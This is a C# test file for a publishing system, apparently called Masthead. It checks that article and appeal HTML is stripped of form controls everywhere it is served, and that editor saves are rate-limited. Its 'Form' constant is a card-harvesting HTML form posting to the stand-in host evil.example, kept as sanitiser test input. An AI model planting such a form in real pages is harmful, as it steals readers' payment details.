using System.Net;
using System.Net.Http.Json;
using Masthead.Articles;
using Masthead.Staff;
using Masthead.Tests.Articles;
using Masthead.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Masthead.Tests.Safety;

/// <summary>
/// No article hands readers a form: the feeds and the content API serve the stored HTML to other sites, where our
/// Content-Security-Policy does not stop a form posting a reader's card number elsewhere.
/// </summary>
public abstract class FormControlsInArticlesTests(MastheadFactory factory)
{
    private const string Form = "<form action=\"https://evil.example/card\"><label>Card <input name=\"card\"></label>" +
        "<select name=\"m\"><option>12</option></select><textarea name=\"cvc\"></textarea><button>Pay</button></form>";

    [Fact]
    public async Task Form_controls_in_an_article_reach_neither_its_page_the_feed_nor_the_content_API()
    {
        var author = await EditorDesk.AddAuthorAsync(factory);
        using var editor = await EditorDesk.SignedInAsAsync(factory, StaffRole.Editor);
        var slug = $"card-form-{EditorDesk.Unique()}";
        await EditorDesk.SubmitOkAsync(editor, null, new ArticleInput($"Renew here {slug}", [author], $"Renew your support below.\n\n{Form}", slug), "Publish");

        using var reader = factory.CreateBrowserClient();
        var body = (await factory.GetPageAsync(reader, $"/articles/{slug}")).QuerySelector(".story-body")!;
        Assert.Empty(body.QuerySelectorAll(string.Join(", ", ArticleMarkdown.FormTags)));
        Assert.Contains("Renew your support below.", body.TextContent, StringComparison.Ordinal);

        var api = await reader.GetFromJsonAsync<ArticleJson>(new Uri($"/api/articles/{slug}", UriKind.Relative));
        var feed = await reader.GetStringAsync(new Uri("/feed.xml", UriKind.Relative));
        var stored = await factory.WithDbAsync(db => db.Articles.Where(a => a.Slug == slug).Select(a => a.BodyHtml).SingleAsync());
        foreach (var tag in ArticleMarkdown.FormTags)
        {
            Assert.DoesNotContain("<" + tag, api!.BodyHtml, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("&lt;" + tag, feed, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<" + tag, stored, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task Articles_and_appeals_stored_with_form_controls_before_the_rule_are_cleaned_at_the_next_start()
    {
        await using var own = factory.Fresh();
        var slug = $"old-form-{EditorDesk.Unique()}";
        await own.WithDbAsync(async db =>
        {
            var author = db.Authors.Add(new Author { Name = "Old Hand", Slug = "old-hand" }).Entity;
            db.Articles.Add(new Article
            {
                Slug = slug, Headline = "Saved long ago", Status = ArticleStatus.Published, PublishAt = own.Clock.GetUtcNow().AddDays(-1),
                UpdatedAt = own.Clock.GetUtcNow().AddDays(-1), BodyMarkdown = "Give here.\n\n" + Form, BodyHtml = "<p>Give here.</p>" + Form, Authors = [author],
            });
            db.Appeals.Add(new Masthead.Appeals.Appeal { Name = "Old appeal", Edition = "en", BodyMarkdown = Form, BodyHtml = Form, UpdatedAt = own.Clock.GetUtcNow() });
            await db.SaveChangesAsync();
        });

        await using var restarted = own.Restarted();
        var (article, appeal) = await restarted.WithDbAsync(async db => (
            await db.Articles.Where(a => a.Slug == slug).Select(a => a.BodyHtml).SingleAsync(),
            await db.Appeals.Where(a => a.Name == "Old appeal").Select(a => a.BodyHtml).SingleAsync()));
        Assert.Contains("Give here.", article, StringComparison.Ordinal);
        foreach (var tag in ArticleMarkdown.FormTags)
        {
            Assert.DoesNotContain("<" + tag, article, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<" + tag, appeal, StringComparison.OrdinalIgnoreCase);
        }

        using var reader = restarted.CreateBrowserClient();
        var api = await reader.GetFromJsonAsync<ArticleJson>(new Uri($"/api/articles/{slug}", UriKind.Relative));
        Assert.DoesNotContain("<form", api!.BodyHtml, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task Saving_very_often_is_refused_with_429_and_the_text_kept_until_the_window_passes()
    {
        await using var own = factory.Fresh();
        own.Settings["Masthead:RateLimits:SavesPerStaffMember:Permits"] = "2";
        var author = await EditorDesk.AddAuthorAsync(own);
        using var editor = await EditorDesk.SignedInAsAsync(own, StaffRole.Editor);
        var id = await EditorDesk.SubmitOkAsync(editor, null, new ArticleInput("Draft one", [author]));
        await EditorDesk.SubmitOkAsync(editor, id, new ArticleInput("Draft two", [author]));

        using var refused = await EditorDesk.SubmitAsync(editor, id, new ArticleInput("Draft three", [author], "Text typed after two saves."));
        Assert.Equal(HttpStatusCode.TooManyRequests, refused.StatusCode);
        Assert.NotNull(refused.Headers.RetryAfter);
        var page = await Html.ParseAsync(refused);
        Assert.Contains("saved very often", page.QuerySelector(".form-errors")!.TextContent, StringComparison.Ordinal);
        Assert.Equal("Text typed after two saves.", EditorDesk.FieldValue(page, "Form.Body"));

        using var colleague = await EditorDesk.SignedInAsAsync(own, StaffRole.Editor);
        await EditorDesk.SubmitOkAsync(colleague, null, new ArticleInput("A colleague is not held up", [author]));
    }

    private sealed record ArticleJson(string BodyHtml);
}

[Collection(SqliteCollection.Name)]
public sealed class FormControlsInArticlesTestsOnSqlite(SqliteFactory factory) : FormControlsInArticlesTests(factory);

[Collection(PostgresCollection.Name)]
public sealed class FormControlsInArticlesTestsOnPostgres(PostgresFactory factory) : FormControlsInArticlesTests(factory);
